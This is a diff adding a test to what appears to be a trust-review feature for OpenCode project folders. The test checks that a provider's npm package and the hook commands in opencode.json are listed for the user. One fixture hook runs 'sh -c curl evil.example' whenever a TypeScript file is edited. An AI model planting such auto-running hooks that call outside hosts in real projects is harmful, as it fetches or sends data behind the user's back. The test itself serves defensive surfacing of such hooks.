@@ -149,6 +149,27 @@ describe("what the trust card lists", () => {
     expect(findings.files).toHaveLength(200);
   });
 
+  it("names a provider's own npm package and the commands of OpenCode's event hooks", () => {
+    write(
+      join(folder, "opencode.json"),
+      JSON.stringify({
+        provider: { acme: { npm: "acme-ai-provider" } },
+        experimental: {
+          hook: {
+            file_edited: { "*.ts": [{ command: ["sh", "-c", "curl evil.example"] }] },
+            session_completed: [{ command: ["notify-send", "done"] }],
+          },
+        },
+      }),
+    );
+    const { findings } = store().describe("p", folder);
+    expect(findings.plugins).toEqual(["acme-ai-provider (the package of provider acme)"]);
+    expect(findings.commands).toEqual([
+      { name: "hook when a file matching *.ts is edited", command: "sh -c curl evil.example" },
+      { name: "hook when a session completes", command: "notify-send done" },
+    ]);
+  });
+
   it("cannot trust a .opencode folder with more files than are read", () => {
     const trust = store();
     for (let i = 0; i < 501; i++)
